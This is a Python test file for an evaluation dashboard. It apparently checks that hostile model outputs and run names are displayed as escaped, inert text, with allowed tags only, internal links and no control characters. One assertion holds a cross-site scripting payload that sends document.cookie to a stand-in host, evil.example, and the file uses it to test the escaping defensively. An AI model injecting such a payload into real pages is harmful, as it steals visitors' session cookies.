"""Texts of models and names that users chose are shown as text: no tag, link or control of them takes effect."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from stores import PAGES, Reader, config, finish, hostile, htmls, new, rollout, score, shown, turn_to, words

from dashboard.widgets import escaped, file_name, link
from harness.records import Example
from harness.storage.store import Store
from harness.system.printable import printable

__all__ = ["shown"]

ALLOWED = {"h2", "h3", "p", "div", "span", "small", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"}
ALLOWED |= {"dl", "dt", "dd", "i", "b", "u", "a", "code", "del"}
ATTRIBUTES = {"class", "role", "title", "tabindex", "aria-label", "aria-live", "aria-hidden", "scope", "style"}
ATTRIBUTES |= {"href", "target"}
COUNT = 300


def attacked(folder: Path) -> str:
    """Two groups whose texts, prompts, pieces, names, reasons, errors, terms and provenance are all attacks."""
    texts = hostile(COUNT)
    pieces = [(texts[i], texts[i - 1], "<backspace>", texts[i - 2], "<end>") for i in range(COUNT)]
    with Store(new(folder)) as store:
        for number, name in enumerate(texts[2:6]):
            run = config(number % 2, benchmark={"name": "text", "corpus": texts[0]}, model={"name": name, "context": 9})
            finish(
                store,
                run,
                grid=texts[1],
                prompts=[Example(text, texts[i - 1]) for i, text in enumerate(texts)],
                rollouts=[rollout(text, pieces[i]) for i, text in enumerate(texts)],
                scores=[
                    score(texts[3], 0.5, definition=texts[4], unit=texts[5]),
                    score("out_of_support", None, reason=texts[6]),
                    score("perplexity", 1.5),
                ],
                provenance={"data_hash": "d", texts[0]: {texts[1]: texts[2]}},
            )
        run = config(7, model={"name": texts[7], "context": 9})
        store.enqueue(texts[1], [run])
        assert store.claim(run.run_id, "somewhere:1:1")
        store.fail(run.run_id, "somewhere:1:1", texts[8])
    return new(folder)


def everything(app: Any) -> str:
    """All that goes to the browser on channels that may read Markdown: labels, helps, headings, captions."""
    found = []
    for kind in (
        "title",
        "header",
        "subheader",
        "caption",
        "markdown",
        "expander",
        "metric",
        "toast",
        "error",
        "warning",
    ):
        for part in (app.main, app.sidebar):
            found += [str(getattr(element, "proto", "")) for element in part.get(kind)]
    for widget in (*app.selectbox, *app.multiselect, *app.button, *app.slider, *app.number_input, *app.text_input):
        found += [widget.label, str(getattr(widget, "help", ""))]
    return "\n".join(found)


def test_nothing_that_is_shown_lives(shown: Any) -> None:
    """Every tag and attribute on every page is one of ours, links stay inside, no control character is left."""
    app = shown(attacked)
    for page in PAGES:
        turn_to(app, page)
        read = Reader(htmls(app))
        assert read.tags <= ALLOWED, (page, read.tags - ALLOWED)
        assert read.attributes <= ATTRIBUTES, (page, read.attributes - ATTRIBUTES)
        assert all(address.startswith("replay?") for address in read.links), page
        controls = {sign for text in htmls(app) for sign in text if sign != "\n" and printable(sign) != sign}
        assert not controls, (page, controls)
        for attack in hostile(15):
            assert attack not in everything(app), (page, attack)


@pytest.mark.parametrize("page", ["samples", "replay"])
def test_texts_are_shown_as_they_are(shown: Any, page: str) -> None:
    """The first texts, which are the attacks one by one, can be read on the page, their controls written out."""
    app = turn_to(shown(attacked), page)
    assert "<script>fetch('https://evil.example/' + document.cookie)</script>" in words(app)


def test_all_samples_and_replays_of_attacks_can_be_opened(shown: Any) -> None:
    """Every page of the samples, and every fifteenth replay with all its steps."""
    app = turn_to(shown(attacked), "samples")
    for number in range(1, COUNT // 10 + 1, 3):
        (page,) = [one for one in app.number_input if one.key == "page"]
        page.set_value(number).run()
        assert not app.exception
        assert Reader(htmls(app)).tags <= ALLOWED
    turn_to(app, "replay")
    for number in range(0, COUNT, 15):
        (sample,) = [one for one in app.number_input if one.key == "sample"]
        sample.set_value(number).run()
        assert not app.exception
        assert Reader(htmls(app)).tags <= ALLOWED


def test_charts_hold_attacks_as_data_only(shown: Any) -> None:
    """No expression and no address in a chart's specification comes from the store."""
    app = shown(attacked)
    for page in ("overview", "ablations", "cost", "run", "exact_lab", "compare"):
        turn_to(app, page)
        for chart in app.main.get("vega_lite_chart"):
            spec = json.loads(chart.proto.spec)
            assert not {"url", "href", "image"} & set(keys_of(spec)), page


def keys_of(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [*value, *(key for inner in value.values() for key in keys_of(inner))]
    return [key for inner in value for key in keys_of(inner)] if isinstance(value, list) else []


def test_an_escaped_text_is_text() -> None:
    """Read as HTML it has no tag, and reads as its printable form; it cannot end an attribute either."""
    for attack in hostile(COUNT):
        read = Reader([escaped(attack)])
        assert not read.tags
        assert "".join(read.text) == "\n".join(map(printable, attack.split("\n")))
        assert Reader([f'<i title="{escaped(attack)}"></i>']).attributes == {"title"}


def test_names_of_files_and_addresses() -> None:
    assert file_name("../<b>\x00 é/run.csv") == "..--b-----run.csv"
    assert link("replay", grid="a&b=<c>", sample=3, seed=None) == "replay?grid=a%26b%3D%3Cc%3E&sample=3"
